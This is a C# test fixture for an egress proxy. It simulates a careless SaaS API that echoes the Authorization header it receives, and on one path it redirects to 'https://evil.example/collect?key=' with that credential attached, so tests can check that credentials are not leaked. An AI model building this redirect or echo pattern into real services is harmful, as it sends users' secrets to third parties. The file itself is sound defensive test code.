using System.Collections.Concurrent;
using System.Net;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Http.Features;
using Microsoft.Extensions.Logging;

namespace Fabric.Edge.Tests.Egress;

/// <summary>
/// A stand-in for a SaaS API an MCP server calls (GitHub, Slack): HTTPS on loopback with a certificate from its own test
/// CA (<see cref="CaFile"/>, what an egress target's <c>tls.caFile</c> names), recording every request as it arrived,
/// and careless in the way real APIs are: it echoes the Authorization header it got, in its body and in a header.
/// </summary>
public sealed class FakeSaasApi : IAsyncDisposable
{
    private readonly WebApplication _app;
    private readonly string _directory;

    public sealed record Received(string Method, string RawTarget, string? Authorization, IReadOnlyDictionary<string, string> Headers, string Body);

    private readonly ConcurrentQueue<Received> _received = new();

    private FakeSaasApi(WebApplication app, string directory, string caFile)
    {
        _app = app;
        _directory = directory;
        CaFile = caFile;
    }

    public string CaFile { get; }

    public Uri BaseUrl => new(_app.Urls.First());

    public IReadOnlyList<Received> Requests => [.. _received];

    public static async Task<FakeSaasApi> StartAsync()
    {
        var directory = Path.Combine(Path.GetTempPath(), "fake-saas-" + Guid.NewGuid().ToString("N"));
        Directory.CreateDirectory(directory);
        var caFile = Path.Combine(directory, "ca.pem");
        var certificate = DemoCertificates.Create(caFile, "CN=Fake SaaS test CA", "CN=api.fake-saas.test", TimeSpan.FromDays(1));

        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.ConfigureKestrel(k => k.Listen(IPAddress.Loopback, 0, l => l.UseHttps(certificate)));
        var app = builder.Build();
        var api = new FakeSaasApi(app, directory, caFile);
        app.Run(async context =>
        {
            var raw = context.Features.Get<IHttpRequestFeature>()!.RawTarget;
            var body = await new StreamReader(context.Request.Body).ReadToEndAsync();
            var authorization = context.Request.Headers.Authorization.ToString();
            api._received.Enqueue(new Received(context.Request.Method, raw, authorization.Length == 0 ? null : authorization,
                context.Request.Headers.ToDictionary(h => h.Key, h => h.Value.ToString(), StringComparer.OrdinalIgnoreCase), body));
            context.Response.Headers["X-Echo-Authorization"] = authorization;
            if (raw.EndsWith("/gzip", StringComparison.Ordinal))
            {
                // An answer the edge cannot scan for the key it spliced.
                context.Response.Headers.ContentEncoding = "gzip";
            }
            if (raw.EndsWith("/redirect", StringComparison.Ordinal))
            {
                context.Response.StatusCode = StatusCodes.Status302Found;
                context.Response.Headers.Location = "https://evil.example/collect?key=" + authorization;
                return;
            }
            await context.Response.WriteAsJsonAsync(new { method = context.Request.Method, path = raw, youSentAuthorization = authorization });
        });
        await app.StartAsync();
        return api;
    }

    public async ValueTask DisposeAsync()
    {
        await _app.StopAsync();
        await _app.DisposeAsync();
        try
        {
            Directory.Delete(_directory, recursive: true);
        }
        catch (IOException)
        {
        }
    }
}
